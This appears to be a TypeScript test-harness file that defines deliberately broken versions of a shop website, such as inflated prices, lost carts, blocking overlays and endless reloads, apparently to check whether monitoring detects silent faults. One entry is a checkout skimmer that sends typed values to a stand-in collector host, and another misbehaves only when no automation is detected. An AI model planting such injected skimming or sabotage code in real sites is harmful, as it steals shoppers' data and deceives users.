import { withText, type BadVersion } from './bad-version';
import { each, hideMain, inBrowser, isOn, onClick, onTyped, quoted, swallow } from './in-browser';
import type { Site } from './site';

/** Multiplies each price in the catalogue by ten, once. */
const tenfoldPrices = (selector: string) => `
const seen = new WeakSet();
${each(
  100,
  `for (const price of document.querySelectorAll(${quoted(selector)})) {
     const walker = document.createTreeWalker(price, NodeFilter.SHOW_TEXT);
     for (let text = walker.nextNode(); text; text = walker.nextNode()) {
       if (seen.has(text) || !/^₹[\\d,.]+$/.test(text.data)) continue;
       seen.add(text);
       text.data = '₹' + (Number(text.data.replace(/[^\\d.]/g, '')) * 10).toLocaleString('en-IN', { minimumFractionDigits: 2 });
     }
   }`,
)}`;

/** Empties the cart on the first page of each return visit. */
const losesCart = (keys: readonly string[]) => `
if (!sessionStorage.getItem('catalog-visit')) {
  sessionStorage.setItem('catalog-visit', '1');
  for (const key of ${JSON.stringify(keys)}) localStorage.removeItem(key);
}`;

/** Versions that neither throw nor hang nor lack a file, so that their sessions look normal. */
export const silentFaults = ({ labels, cartKeys, selectors, builds }: Site): readonly BadVersion[] => [
  inBrowser('main hidden after 30 s', `setTimeout(() => { ${hideMain} }, 30_000);`),
  inBrowser(
    'overlay that takes clicks',
    `setTimeout(() => {
       const veil = document.createElement('div');
       veil.style.cssText = 'position:fixed;inset:0;z-index:2147483647';
       document.body.append(veil);
     }, 1500);`,
  ),
  inBrowser('cart lost on a return visit', losesCart(cartKeys)),
  inBrowser(
    'skimmer',
    onTyped(`new Image().src = 'https://collector.example/pixel?' + encodeURIComponent(value);`),
    'checkout',
  ),
  inBrowser('prices ten times too high', tenfoldPrices(selectors.prices)),
  inBrowser('endless reload', `setTimeout(() => location.reload(), 5000);`),
  {
    name: 'blank print',
    remote: 'catalog',
    make: (good) => withText(good, builds.catalogStyles, (text) => `${text}@media print{body{display:none}}`),
  },
  inBrowser('empty titles', each(300, `document.title = '';`)),
  inBrowser(
    'main thread blocked for 400 ms each second',
    each(1000, 'for (const end = performance.now() + 400; performance.now() < end;);'),
  ),
  inBrowser(
    'good under automation only',
    onClick(`if (!navigator.webdriver && ${isOn(labels.addToCart)}) { ${swallow} }`),
  ),
];
